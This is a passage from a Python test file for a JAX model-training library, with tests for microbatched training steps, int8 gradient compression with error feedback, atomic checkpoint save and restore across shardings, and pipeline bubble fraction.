        s4 = make_train_step(loss_fn, opt_cfg, StepConfig(num_microbatches=4))
        opt = adamw_init(params, opt_cfg)
        p1, _, m1 = jax.jit(s1)(params, opt, batch)
        p4, _, m4 = jax.jit(s4)(params, opt, batch)
        np.testing.assert_allclose(float(m1["loss"]), float(m4["loss"]), rtol=1e-4)
        for a, b in zip(jax.tree.leaves(p1), jax.tree.leaves(p4)):
            np.testing.assert_allclose(np.asarray(a), np.asarray(b), rtol=2e-3, atol=2e-4)


class TestGradCompression:
    def test_quant_roundtrip_error_bounded(self):
        rng = np.random.default_rng(0)
        g = jnp.asarray(rng.normal(size=512).astype(np.float32))
        q, scale = quantize_int8(g)
        err = np.abs(np.asarray(dequantize_int8(q, scale)) - np.asarray(g))
        assert err.max() <= float(scale) / 2 + 1e-7

    def test_error_feedback_unbiased_long_run(self):
        """Accumulated compressed updates converge to accumulated true grads."""
        rng = np.random.default_rng(1)
        true_sum = np.zeros(64, np.float32)
        applied_sum = np.zeros(64, np.float32)
        err = jnp.zeros(64)
        for _ in range(200):
            g = jnp.asarray(rng.normal(size=64).astype(np.float32))
            q, scale, err = compress_with_feedback(g, err)
            applied_sum += np.asarray(dequantize_int8(q, scale))
            true_sum += np.asarray(g)
        # residual is bounded by one quantization step, not growing with T
        resid = np.abs(true_sum - applied_sum)
        assert resid.max() < 0.25


class TestCheckpoint:
    def test_atomic_publish_and_latest(self, tmp_path, tiny_lm):
        _, params, _ = tiny_lm
        save_checkpoint(tmp_path, 3, params)
        save_checkpoint(tmp_path, 7, params)
        (tmp_path / "ckpt-000009.tmp").mkdir()  # crashed writer debris
        assert latest_step(tmp_path) == 7
        assert not (tmp_path / "ckpt-000009.tmp").exists()  # GC'd

    def test_roundtrip_exact(self, tmp_path, tiny_lm):
        _, params, _ = tiny_lm
        save_checkpoint(tmp_path, 1, params, chunks=3)
        restored, manifest = restore_latest(tmp_path, params)
        assert manifest["step"] == 1
        for a, b in zip(jax.tree.leaves(params), jax.tree.leaves(restored)):
            assert np.array_equal(np.asarray(a), np.asarray(b))

    def test_elastic_restore_new_sharding(self, tmp_path, tiny_lm):
        """A checkpoint restores under different target shardings."""
        from jax.sharding import NamedSharding, PartitionSpec as P

        _, params, _ = tiny_lm
        save_checkpoint(tmp_path, 5, params)
        from repro.launch.mesh import compat_make_mesh

        mesh = compat_make_mesh((1,), ("data",))
        sh = jax.tree.map(lambda _: NamedSharding(mesh, P()), params)
        restored, _ = restore_latest(tmp_path, params, shardings=sh)
        for a, b in zip(jax.tree.leaves(params), jax.tree.leaves(restored)):
            assert np.array_equal(np.asarray(a), np.asarray(b))


class TestPipeline:
    def test_bubble_fraction(self):
        from repro.train import pipeline_bubble_fraction

        assert pipeline_bubble_fraction(4, 12) == pytest.approx(3 / 15)
        assert pipeline_bubble_fraction(1, 8) == 0.0
